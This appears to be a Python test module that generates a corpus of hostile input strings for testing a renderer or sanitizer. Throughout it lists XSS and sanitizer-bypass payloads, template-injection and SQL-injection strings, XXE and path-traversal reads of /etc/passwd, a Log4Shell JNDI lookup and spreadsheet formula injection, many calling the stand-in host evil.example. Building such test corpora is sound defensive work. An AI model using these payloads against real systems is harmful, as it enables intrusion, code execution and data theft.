"""Hostile texts of our own: what would run, put into whatever it could break out of, in many codes.

Whatever runs calls `hit()`, asks `evil.example`, or leaves the page.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

EVIL = "//evil.example/x"

ELEMENTS = (
    "<script>hit()</script>", f"<script src={EVIL}></script>", "<img src=x onerror=hit()>", "<svg/onload=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'>", f"<iframe src={EVIL}></iframe>", "<details open ontoggle=hit()>x</details>",
    "<math><a xlink:href=javascript:hit()>x</a></math>", "<form action=javascript:hit()><button>x</button></form>",
    f"<form action={EVIL}><input name=q></form>", f"<base href={EVIL}>", "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    f"<link rel=stylesheet href={EVIL}>", f"<object data={EVIL}></object>", f"<style>@import '{EVIL}'</style>",
    "<input autofocus onfocus=hit()>", "<video><source onerror=hit()></video>", "<a href=javascript:hit()>x</a>",
)  # fmt: skip

BREAKOUTS = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</template></noscript>", '\\">', "</a></p>",
)  # fmt: skip
"""What ends the place that a text stands in."""

QUOTES = ('" ', "' ", "` ", '\\" ', "&quot; ", "\u201d ", '"/')
HANDLERS = (
    "onmouseover=hit() ", "autofocus onfocus=hit() ", "style=animation-name:x onanimationstart=hit() ", f"formaction={EVIL} ",
    "href=javascript:hit() ",
)  # fmt: skip

SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:", "javascript&colon;", "java&#10;script:",
    "&#106;avascript:", "&#x6a&#x61vascript:", "javascript\u200b:", "javascript%3A", "vbscript:", "feed:javascript:", "view-source:javascript:",
    "data:text/html,<script>hit()</script>", "data:text/html;base64,"
    + base64.b64encode(b"<script>hit()</script>").decode(), "blob:", "filesystem:", "about:blank#", "file:///etc/passwd#",
)  # fmt: skip
ELSEWHERE = (
    EVIL, "/\\evil.example/x", "\\\\evil.example\\x", "https:evil.example", "https:///evil.example", "http://127.0.0.1:1/x", "///evil.example",
    "https://evil.example\\@example.org/", 'https://example.org/"onmouseover="hit()', "https://example.org/'onmouseover='hit()",
    "https://example.org/><script>hit()</script>", "https://[evil", 'mailto:a@example.org?body="><script>hit()</script>', "https://example.org/\u202e",
)  # fmt: skip

_TAG = "<img src=x onerror=hit()>"
CODED = (
    _TAG.replace("<", "&lt;").replace(">", "&gt;"), _TAG.replace("<", "&amp;lt;"), _TAG.replace("<", "&#60;"), _TAG.replace("<", "&#x3C"),
    _TAG.replace("<", "&LT"), _TAG.replace("<", "\uff1c").replace(">", "\uff1e"), _TAG.replace("<", "\\u003c"), _TAG.replace("<", "\\x3c"),
    quote(_TAG), quote(quote(_TAG)), _TAG.replace("<", "+ADw-"), _TAG.replace("<", "<\u200b"), _TAG.replace("<", "<\u0338"), _TAG.replace("<", "<\x00"),
    _TAG.replace(" ", "/"), _TAG.replace(" ", "\x0c"), _TAG.replace(" ", "\u2028"), _TAG.upper(), _TAG[:-1], f"<{_TAG}", f"<<{_TAG}>", "<img/src/onerror=hit()//",
    "<ſcript>hit()</ſcript>", "<sc<script>ript>hit()</script>", "<!--><img src=x onerror=hit()>-->", "<![CDATA[<img src=x onerror=hit()>]]>",
    "<?x <img src=x onerror=hit()>?>", '<noscript><p title="</noscript><img src=x onerror=hit()>">', '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">', '<xmp><p title="</xmp><img src=x onerror=hit()>">',
)  # fmt: skip

MARKDOWN = (
    "[x](javascript:hit())", "![x](javascript:hit())", "![x](https://evil.example/x.png)", "<javascript:hit()>", "[x](<javascript:hit()>)",
    "[x](java&#10;script:hit())", "[x](data:text/html,<script>hit()</script>)", '[x](https://example.org/ "y\\" onmouseover=hit() z=\\"")',
    "[x](https://example.org/ 'y\" onmouseover=hit() z=\"')", '[x](https://example.org/"onmouseover="hit())', "[x]: javascript:hit()", "[![x](a)](javascript:hit())",
    "`<img src=x onerror=hit()>`", "``` <img src=x onerror=hit()>", '~~~" onmouseover=hit() x="', "{: onclick=hit() }", '{#x" onclick=hit() y="}', '{t="><script>hit()</script>}',
    "*[x]: <script>hit()</script>", '[^"><img src=x onerror=hit()>]', "[^1]: </li><script>hit()</script>", 'x | "><script>hit()</script>', "**<script>hit()**</script>",
    "\x02wzxhzdk:0\x03", "\x02klzzwxh:0000\x03", "\x02amp\x03lt;script\x02amp\x03gt;", "&\x02", '[norm](norm:"><script>hit()</script>)', '[p](speaker:" onclick=hit())',
    "[x](../../../../etc/passwd)", "[x](/\\evil.example)", '[x](#"><script>hit()</script>)', '[\u2066>](https://example.org/ "> \u2066 onmouseover=hit() \u2069")',
    '13(e)"><script>hit()</script>', "- - - <script>hit()</script>", "=====<script>", "|<script>|\n|---|\n|<script>hit()</script>|",
)  # fmt: skip

TEMPLATES = (
    "{{ 7 * 7 }}", "{{ config }}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "{# x #}", "{% raw %}<script>hit()</script>", "${hit()}", "#{hit()}",
    "<%= hit() %>", "{{constructor.constructor('hit()')()}}", "[[${hit()}]]", '--8<-- "/etc/passwd"', "::: os.system", "!!python/object/apply:os.system [id]",
    '{{ "<script>hit()</script>"|safe }}', "%(x)s %s %n", "{0.__class__}", "$HOME `id` $(id)",
)  # fmt: skip
"""What plugins of templates and others could fill in."""

FORMATS = (
    '=HYPERLINK("https://evil.example","x")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "x\r\nATTENDEE:mailto:a@evil.example", "x\nEND:VEVENT\nBEGIN:VEVENT",
    "\\nEND:VCALENDAR", "x\nER  - \nTY  - BOOK", "}}\n@misc{x, title={y}}", "\\input{/etc/passwd}", "\\href{javascript:hit()}{x}", "]]></content><link href='//evil.example'/>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "</script><script>hit()</script>", "<!--<script>", "\\u003c/script\\u003e\\u003cscript\\u003ehit()", "\u2028hit()\u2029",
    "'); DROP TABLE summaries; --", "' OR '1'='1", "x', load_extension('y') --", '"}, "@id": "javascript:hit()', '\\", \\"x\\": \\"', "\x00", "\ud800".encode("utf-8", "replace").decode(),
    "::error file=x,line=1::hit", "%0A::error::hit", "x%0D%0A::set-output name=x::y", "x\n::stop-commands::y", "##[command]x", "]::add-mask::x", "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\x1b]0;x\x07", "\x9b31m", "\x08\x08\x08", "\r100 errors", "\x7f", "a\u202eb\u202c", "\u2066x\u2069", "\u200bx", "\ufeffx", "\u2800", "\u3164",
    "</details><img src=https://evil.example/x.png>", "@everyone #1 GH-1 https://evil.example", "x</summary>", "../../../../etc/passwd", "..\\..\\x", "CON", ".htaccess", "x/../../y.md",
    "<?php system('id'); ?>", '<!--#exec cmd="id" -->', "${jndi:ldap://evil.example/x}", "a" * 299 + "<", "<" * 300, "[" * 300, '"' * 300, "&" * 300, "`" * 299,
    "\U000e0041\U000e007f", "\ufffe", "\ue000", "e\u0301" * 100, "A\u0300\u0301\u0302\u0303" * 40, "\u0600", "﷽", "👩‍👩‍👧‍👦", "İ<İmg src=x onerror=hit()>", "ß<ẞcript>hit()",
)  # fmt: skip
"""What means something to an export, a terminal, a workflow, a disk."""


def own() -> tuple[str, ...]:
    """Return the texts, each once, always in the same order."""
    return tuple(dict.fromkeys(_each()))


def _each() -> Iterator[str]:
    yield from map("".join, product(BREAKOUTS, ELEMENTS))
    yield from map("".join, product(QUOTES, HANDLERS))
    yield from (f"{scheme}hit()" for scheme in SCHEMES)
    yield from (*ELSEWHERE, *CODED, *MARKDOWN, *TEMPLATES, *FORMATS)
